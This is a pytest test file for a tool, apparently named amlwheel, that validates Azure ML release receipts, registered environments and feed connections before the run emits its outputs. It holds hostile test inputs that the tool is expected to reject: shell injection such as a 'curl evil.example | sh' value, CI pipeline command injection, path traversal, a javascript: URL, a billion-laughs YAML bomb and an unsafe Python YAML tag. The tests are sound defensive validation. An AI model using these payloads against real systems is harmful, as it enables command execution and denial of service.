"""The companion reads a receipt as foreign text, and registered specs and noted dates too."""

import json
import re
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from amlwheel import consume
from amlwheel.errors.base import Several, StepError
from amlwheel.errors.consume import (
    BadReceipt,
    ConnectionGone,
    EnvironmentChanged,
    EnvironmentGone,
    ReceiptAltered,
    TokenEnds,
)
from amlwheel.errors.workspace import WorkspaceNotFound
from amlwheel.hosts.terminal import Terminal
from amlwheel.model.azure import Workspace
from amlwheel.model.environment import digest, to_yaml
from amlwheel.plan.change import Change, Verb
from amlwheel.report.receipt import receipt
from amlwheel.report.released import ReleasedEnvironment
from amlwheel.sign_in import detectors
from unit.parts import CANARY, GUID, IMAGE, WORKSPACE, FakeArm, defined, make, release

Json = dict[str, Any]
OTHER = Workspace(GUID, "rg", "production")


@pytest.fixture
def document(tmp_path: Path) -> Json:
    made = release(make(tmp_path))
    released = receipt(made, [Change("wheel x.whl", Verb.CREATE, "new", None)], dry_run=False, sbom="{}")
    return json.loads(json.dumps(released))  # type: ignore[no-any-return]


LAUGHS = "\n".join(["a: &a0 [x]", *(f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 9)}]" for at in range(1, 9))])


def read(folder: Path, document: object, before: bytes = b"") -> ReleasedEnvironment:
    path = folder / "aml-release.json"
    path.write_bytes(before + json.dumps(document).encode())
    return consume.read(path)


def test_a_receipt_is_read_also_after_windows_touched_it(tmp_path: Path, document: Json) -> None:
    released = read(tmp_path, document, b"\xef\xbb\xbf")
    assert released == read(tmp_path, {**document, "later": {"more": 1}})
    assert released.reference == document["environment"]["reference"]
    assert [released.id(place) for place in released.workspaces] == document["environment"]["ids"]


def test_an_id_is_spelled_as_in_the_receipt(tmp_path: Path, document: Json) -> None:
    version = "1.2.3+cpu" + document["environment"]["version"][-13:]
    document["environment"].update(version=version, reference=f"azureml:acme-churn:{version}")
    document["environment"].update(ids=[f"{WORKSPACE.id}/environments/acme-churn/versions/{version}"])
    released = read(tmp_path, document)
    assert released.id(WORKSPACE) == document["environment"]["ids"][0]


def environment(**parts: object) -> Callable[[Json], None]:
    return lambda document: document["environment"].update(parts)


@pytest.mark.parametrize(
    "edit",
    [
        environment(name="acme\n::set-output name=x::y"),
        environment(name="../environments/other"),
        environment(name="x; curl evil.example | sh"),
        environment(name=["acme-churn"]),
        environment(version="$(id)-" + "0" * 12),
        environment(definition_sha256="0"),
        environment(ids=[]),
        environment(ids={}),
        environment(ids=[f"{WORKSPACE.id}/environments/other/versions/1"]),
        environment(ids=["x" * 10**6]),
        environment(image="mcr.microsoft.com/a:latest"),
        lambda document: document["packages"][0].update(name="acme\nchurn"),
        lambda document: document["packages"][0].update(name="##vso[task.setvariable variable=x]y"),
        lambda document: document["packages"][0].update(version="1 && id"),
        lambda document: document["packages"][0].update(version=None),
        lambda document: document.update(packages=[]),
        lambda document: document["connection"].update(name="a/../b"),
        lambda document: document["feed"].update(index_url="https://me:token@pypi.example/simple/"),
        lambda document: document["feed"].update(index_url="javascript:alert(1)"),
        lambda document: document.update(feed=None),
        lambda document: document.update(schema=True),
        lambda document: document.update(schema=0),
        lambda document: document.update(schema="9" * 10**6),
        lambda document: document.pop("route"),
    ],
)
def test_what_no_release_says_is_no_receipt(tmp_path: Path, document: Json, edit: Callable[[Json], object]) -> None:
    edit(document)
    with pytest.raises(BadReceipt) as caught:
        read(tmp_path, document)
    assert len(caught.value.what) < 500 + len(str(tmp_path))


@pytest.mark.parametrize(
    "text", ["", "[]", "null", "[" * 10**5, '{"schema": 2', "{" + '"a":{' * 10**5, "\x00", "1" * 10**4]
)
def test_what_is_no_json_is_no_receipt(tmp_path: Path, text: str) -> None:
    path = tmp_path / "aml-release.json"
    path.write_text(text)
    with pytest.raises(BadReceipt):
        consume.read(path)


# A billion laughs: two lines that stand for a billion, and that a digest would write out.
LAUGHS = "a0: &a0 [x]\n" + "".join(f"a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * 9)}]\n" for n in range(9))


@pytest.mark.parametrize(
    "conda",
    [
        "[" * 1000,
        "[" * 10**5,
        "x: " + "y" * 2**22,
        LAUGHS,
        "&a [*a]",
        "dependencies: &a [*a]",
        "!!python/object:os.x {}",
        "x: 2026-02-31",
    ],
)
def test_a_registered_spec_is_foreign_too(tmp_path: Path, document: Json, conda: str) -> None:
    released, arm = read(tmp_path, document), FakeArm()
    arm.stored[released.id(WORKSPACE)] = {"properties": {"image": released.image, "condaFile": conda}}
    with pytest.raises(EnvironmentChanged):
        consume._check_environment(arm, released, WORKSPACE)


def stored(released: ReleasedEnvironment, place: Workspace, expires: object) -> tuple[str, Json]:
    assert released.connection
    path = f"{place.id}/connections/{released.connection.name}"
    metadata = {"amlwheel-token-expires": expires}
    properties = {"target": released.connection.target, "category": "PythonFeed", "metadata": metadata}
    return path, {"name": released.connection.name, "properties": properties}


@pytest.mark.parametrize(
    ("noted", "day"),
    [
        ("2027-03-01", "2027-03-01"),
        ("2027-03-01T10:00:00Z", "2027-03-01"),
        ("soon", ""),
        ("!", ""),
        (None, ""),
        (7, ""),
    ],
)
def test_the_end_of_a_token_as_anybody_may_have_noted_it(
    tmp_path: Path, document: Json, noted: object, day: str
) -> None:
    released, arm = read(tmp_path, document), FakeArm()
    arm.stored |= [stored(released, WORKSPACE, noted)]
    assert consume._check_connection(arm, released, WORKSPACE) == day


def test_one_workspace_that_knows_no_date_hides_no_others() -> None:
    today = date(2027, 2, 28)
    with pytest.raises(TokenEnds, match=r"1 day\(s\)"):
        consume._check_expiry(["", "2027-03-01", "2028-01-01"], 21, today, Terminal())
    consume._check_expiry(["", "2027-03-01"], None, today, Terminal())
    consume._check_expiry([], 21, today, Terminal())


def test_an_expired_token_is_told_in_any_case(capsys: pytest.CaptureFixture[str]) -> None:
    consume._check_expiry(["2027-02-27"], None, date(2027, 2, 28), Terminal())
    assert "expired on 2027-02-27" in capsys.readouterr().out


def test_a_workspace_that_is_not_there_is_no_environment_that_is_gone(tmp_path: Path, document: Json) -> None:
    released, arm = read(tmp_path, document), FakeArm()
    with pytest.raises(EnvironmentGone):
        consume._check_environment(arm, released, WORKSPACE)
    arm.answers["GET", WORKSPACE.id] = (404, {"error": {"code": "ResourceNotFound"}})
    with pytest.raises(WorkspaceNotFound):
        consume._check_environment(arm, released, WORKSPACE)


# --- the whole run


@pytest.fixture
def azure(tmp_path: Path, document: Json, monkeypatch: pytest.MonkeyPatch) -> FakeArm:
    """Return an Azure that has the release as the receipt in the working folder describes it."""
    arm, released = FakeArm(), read(tmp_path, document)
    conda = defined(make(tmp_path)).conda
    arm.stored[released.id(WORKSPACE)] = {"properties": {"image": released.image, "condaFile": conda}}
    arm.stored |= [stored(released, WORKSPACE, "2000-01-01")]
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(consume, "Arm", lambda *_: arm)
    monkeypatch.setattr(detectors, "find", lambda *_: None)
    return arm


def outputs(text: str) -> dict[str, str]:
    """Return the outputs that a terminal shows."""
    return dict(re.findall(r"^([a-z-]+)=(.*)$", text, re.MULTILINE))


RECEIPT = ["--receipt", "aml-release.json"]


def test_a_release_that_is_as_it_was_becomes_outputs(
    azure: FakeArm, document: Json, capsys: pytest.CaptureFixture[str]
) -> None:
    consume.run(RECEIPT, {}, Terminal())
    environment = document["environment"]
    text = capsys.readouterr().out
    assert outputs(text) == {
        "environment": environment["reference"],
        "environment-id": environment["ids"][0],
        "environment-name": environment["name"],
        "environment-version": environment["version"],
        "package-name": "acme-churn",
        "package-version": "1.2.3",
        "connection": document["connection"]["name"],
        "index-url": document["feed"]["index_url"],
    }
    assert "Compare with Azure · the same on research" in text
    assert "warning: The token that the workspace stores to build images expired on 2000-01-01" in text
    assert azure.writes == []


@pytest.mark.usefixtures("azure")
def test_a_token_that_ends_too_soon_stops_the_run_without_outputs(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(TokenEnds):
        consume.run([*RECEIPT, "--alarm-days", "21"], {}, Terminal())
    assert outputs(capsys.readouterr().out) == {}


def test_another_workspace_is_asked_in_place_of_the_receipts(azure: FakeArm) -> None:
    with pytest.raises(Several) as caught:
        consume.run([*RECEIPT, "--workspace", f"{GUID}/rg/production"], {}, Terminal())
    assert {type(each) for each in caught.value.errors} == {WorkspaceNotFound, ConnectionGone}
    assert {path for _, path in azure.sent if not path.startswith(OTHER.id)} == set()


@pytest.mark.usefixtures("azure")
def test_the_environment_tells_inputs_and_its_secrets_are_masked(monkeypatch: pytest.MonkeyPatch) -> None:
    host, applications = Terminal(), []
    monkeypatch.setattr(detectors, "find", lambda *words: applications.append(words[2]))
    environ = {"AMLWHEEL_RECEIPT": "aml-release.json", "AMLWHEEL_CLIENT_ID": GUID, "AMLWHEEL_TENANT_ID": GUID}
    consume.run([], {**environ, "AZURE_CLIENT_SECRET": CANARY}, host)
    assert applications == [(GUID, GUID)]
    assert host.leaks(CANARY)


def share(azure: FakeArm, document: Json, folder: Path, monkeypatch: pytest.MonkeyPatch) -> Json:
    """Put the receipt's environment into a registry, and into no workspace; return its version there."""
    name, version = document["environment"]["name"], document["environment"]["version"]
    reference = f"azureml://registries/acme-models/environments/{name}/versions/{version}"
    document["environment"].update(ids=[], reference=reference)
    (folder / "aml-release.json").write_text(json.dumps(document))
    where = {"subscriptionId": GUID, "resourceGroup": "rg"}
    where["primaryRegionResourceProviderUri"] = "https://westeurope.api.azureml.ms/"
    azure.answers["GET", "/registrymanagement/v1.0/registries/acme-models/discovery"] = (200, where)
    monkeypatch.setattr(azure, "at", lambda *_: azure)
    place = WORKSPACE.id.replace("workspaces/research", "registries/acme-models")
    made = azure.stored.pop(f"{WORKSPACE.id}/environments/{name}/versions/{version}")
    azure.stored[f"/mferp/managementfrontend{place}/environments/{name}/versions/{version}"] = made
    return made


def test_what_is_in_a_registry_is_compared_there(
    azure: FakeArm,
    document: Json,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    made = share(azure, document, tmp_path, monkeypatch)
    reference = document["environment"]["reference"]
    named = [*RECEIPT, "--workspace", "azureml://registries/acme-models", "--workspace"]
    with pytest.raises(BadReceipt, match="of a release to registry acme-models and to no workspace") as untold:
        consume.run([*RECEIPT, "--workspace", f"{GUID}/rg/research"], {}, Terminal())
    assert "Name in `workspace` azureml://registries/acme-models, and in further lines" in untold.value.fix
    consume.run(named[:-1], {}, Terminal())
    text = capsys.readouterr().out
    assert (outputs(text)["environment"], outputs(text)["environment-id"]) == (reference, reference)
    assert "the same on registry acme-models" in text
    assert "warning: Nobody has looked for the connection feed-acme" in text
    consume.run([*named, f"{GUID}/rg/research"], {}, Terminal())
    text = capsys.readouterr().out
    assert outputs(text)["environment"] == reference
    assert "Nobody has looked" not in text
    with pytest.raises(ConnectionGone, match="production has no connection") as caught:
        consume.run([*named, f"{GUID}/rg/production"], {}, Terminal())
    assert "with `command` connect and this workspace" in caught.value.fix
    made["properties"]["image"] = IMAGE.pinned.replace("sha256:", "sha256:0")[:-1]
    with pytest.raises(EnvironmentChanged, match=f"{reference} on registry acme-models has another definition"):
        consume.run(named[:-1], {}, Terminal())
    made["properties"]["provisioningState"] = "Failed"
    with pytest.raises(EnvironmentGone, match="isn't registered on registry acme-models"):
        consume.run(named[:-1], {}, Terminal())


def test_a_release_without_a_connection_needs_none(
    azure: FakeArm, document: Json, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sha256, wheel = (document["packages"][0][key] for key in ("sha256", "wheel"))
    register(azure, document, ["--no-index", f"https://acme.blob.core.windows.net/w/{wheel} --hash=sha256:{sha256}"])
    released = read(tmp_path, {**document, "route": "storage", "feed": None, "connection": None})
    assert consume._check_connection(azure, released, WORKSPACE) == ""
    consume.run(RECEIPT, {}, Terminal())
    assert not [path for _, path in azure.sent if path.endswith("/connections")]
    text = capsys.readouterr().out
    assert (outputs(text)["connection"], outputs(text)["index-url"]) == ("", "")


def test_images_from_a_commit_have_a_connection_and_no_index(
    document: Json, tmp_path: Path, azure: FakeArm, capsys: pytest.CaptureFixture[str]
) -> None:
    document["connection"].update(category="Git", target=document["source"]["repository"])
    register(azure, document, [f"acme-churn @ git+{document['source']['repository']}@{'c' * 40}#subdirectory=python"])
    document["route"] = "git"
    released = read(tmp_path, document)
    path, connection = stored(released, WORKSPACE, None)
    connection["properties"]["category"] = "Git"
    azure.stored[path] = connection
    consume.run(RECEIPT, {}, Terminal())
    text = capsys.readouterr().out
    assert (outputs(text)["connection"], outputs(text)["index-url"]) == (document["connection"]["name"], "")


@pytest.mark.parametrize(
    "properties",
    [
        {"target": "https://pkgs.dev.azure.com/evil/"},
        {"category": "Git"},
        {"target": "https://pkgs.dev.azure.com/acme/ml"},
    ],
)
def test_a_connection_that_was_changed_or_overruled_is_told_to_whoever_trains(
    tmp_path: Path, document: Json, azure: FakeArm, properties: Json
) -> None:
    released = read(tmp_path, document)
    path, connection = stored(released, WORKSPACE, None)
    if properties.get("target") == "https://pkgs.dev.azure.com/acme/ml":
        path, connection["name"] = f"{WORKSPACE.id}/connections/nearer", "nearer"
    connection["properties"].update(properties)
    azure.stored[path] = connection
    with pytest.raises(ConnectionGone, match=f"Connection {connection['name']} of research is for") as caught:
        consume._check_connection(azure, released, WORKSPACE)
    assert "connection-name" not in caught.value.fix
    assert "run the release again" in caught.value.fix


def test_a_connection_that_leads_elsewhere_is_gone(tmp_path: Path, document: Json, azure: FakeArm) -> None:
    document["feed"]["index_url"] = "https://elsewhere.example/simple/"
    with pytest.raises(ConnectionGone, match=r"for https://elsewhere\.example/simple/"):
        consume._check_connection(azure, read(tmp_path, document), WORKSPACE)


# --- what the registered environment doesn't bear out


def register(azure: FakeArm, document: Json, lines: list[str]) -> None:
    """Register the receipt's environment with this `pip:` list; the receipt gets its digest."""
    said = document["environment"]
    spec = {"dependencies": ["python=3.11.13", {"pip": lines}]}
    sha256 = digest(spec, IMAGE)
    version = f"{said['version'].rpartition('-')[0]}-{sha256[:12]}"
    path = f"{WORKSPACE.id}/environments/acme-churn/versions/{version}"
    said.update(version=version, reference=f"azureml:acme-churn:{version}", definition_sha256=sha256, ids=[path])
    azure.stored[path] = {"properties": {"image": IMAGE.pinned, "condaFile": to_yaml(spec)}}


def forge(document: Json, way: str, value: object) -> None:
    *above, last = way.split(".")
    part: Any = document
    for key in above:
        part = part[int(key) if key.isdecimal() else key]
    part[last] = value


@pytest.mark.parametrize(
    "forged",
    [
        ("packages.0.name", "acme-other", ReceiptAltered),
        ("packages.0.name", "numpy", ReceiptAltered),
        ("packages.0.version", "1.2.4", ReceiptAltered),
        ("packages.0.version", "1.2.3.0", ReceiptAltered),
        ("packages.0.version", "1..3", ReceiptAltered),
        ("packages.0.sha256", "0" * 64, ReceiptAltered),
        ("packages.0.wheel", "acme_churn-1.2.4-py3-none-any.whl", ReceiptAltered),
        ("packages.0.wheel", "acme_churn.whl", ReceiptAltered),
        ("packages.0.wheel", "../evil.whl", BadReceipt),
        ("packages.0.sha256", "$(id)", BadReceipt),
        ("route", "storage", ReceiptAltered),
        ("route", "workspace", ReceiptAltered),
        ("route", "git", ReceiptAltered),
        ("route", "magic", BadReceipt),
        ("feed.index_url", "https://pkgs.dev.azure.com/acme/evil/_packaging/x/pypi/simple/", ReceiptAltered),
        ("feed.index_url", "https://evil.example/simple/", Several),
        ("connection", None, ReceiptAltered),
        ("connection.name", "feed-other", ConnectionGone),
        ("connection.target", "https://evil.example", ConnectionGone),
        ("environment.reference", "azureml:acme-evil:1", BadReceipt),
        ("environment.name", "acme-evil", BadReceipt),
        ("environment.image", f"evil.example/x@sha256:{'e' * 64}", EnvironmentChanged),
        ("environment.ids", [f"{OTHER.id}/environments/acme-churn/versions/1"], BadReceipt),
    ],
)
@pytest.mark.usefixtures("azure")
def test_a_forged_receipt_stops_the_run_without_outputs(
    tmp_path: Path, document: Json, capsys: pytest.CaptureFixture[str], forged: tuple[str, object, type[StepError]]
) -> None:
    way, value, error = forged
    forge(document, way, value)
    (tmp_path / "aml-release.json").write_text(json.dumps(document))
    with pytest.raises(error) as caught:
        consume.run(RECEIPT, {}, Terminal())
    assert type(caught.value) is error
    assert outputs(capsys.readouterr().out) == {}


def test_a_release_of_others_may_be_described_and_never_misdescribed(
    tmp_path: Path, document: Json, azure: FakeArm
) -> None:
    """Whoever writes a receipt may name any environment of the workspace: what is said of it has to be true."""
    document["packages"][0]["wheel"] = "acme_churn-1.2.3-py3-none-any.whl"
    sha256 = document["packages"][0]["sha256"]
    place = "https://acme.blob.core.windows.net/wheels/acme-churn"
    stored_line = f"{place}/acme_churn-1.2.3-py3-none-any.whl --hash=sha256:{sha256}"
    register(azure, document, ["--no-index", stored_line])
    document["route"] = "storage"
    assert read(tmp_path, document).index  # the feed, of which the environment knows nothing
    with pytest.raises(ReceiptAltered, match="the index https://"):
        consume._check_environment(azure, read(tmp_path, document), WORKSPACE)
    document["connection"] = None
    consume._check_environment(azure, read(tmp_path, document), WORKSPACE)
    register(azure, document, ["--extra-index-url https://x.example/", stored_line])
    with pytest.raises(ReceiptAltered, match="needs no connection"):
        consume._check_environment(azure, read(tmp_path, document), WORKSPACE)
    document["feed"] = None
    consume._check_environment(azure, read(tmp_path, document), WORKSPACE)
    document["packages"][0]["version"] = "1.2.2"
    document["packages"][0]["wheel"] = "acme_churn-1.2.2-py3-none-any.whl"
    register(azure, document, [stored_line.replace("1.2.3", "1.2.2")])
    with pytest.raises(ReceiptAltered, match=r"version 1\.2\.2 of acme-churn"):
        consume._check_environment(azure, read(tmp_path, document), WORKSPACE)
    sha256 = digest({}, IMAGE)
    document["environment"].update(definition_sha256=sha256, version=f"1.2.2-{sha256[:12]}")
    path = f"{WORKSPACE.id}/environments/acme-churn/versions/1.2.2-{sha256[:12]}"
    document["environment"].update(ids=[path], reference=f"azureml:acme-churn:1.2.2-{sha256[:12]}")
    azure.stored[path] = {"properties": {"image": IMAGE.pinned, "condaFile": "{}"}}
    with pytest.raises(ReceiptAltered, match=r"the package acme-churn 1\.2\.2"):
        consume._check_environment(azure, read(tmp_path, document), WORKSPACE)


def test_of_several_packages_of_a_commit_only_the_first_version_is_known(tmp_path: Path, document: Json) -> None:
    document["packages"].append({**document["packages"][0], "name": "acme-more"})
    assert read(tmp_path, document).versions == ["1.2.3", "1.2.3"]
    assert read(tmp_path, {**document, "route": "git"}).versions == ["1.2.3", ""]
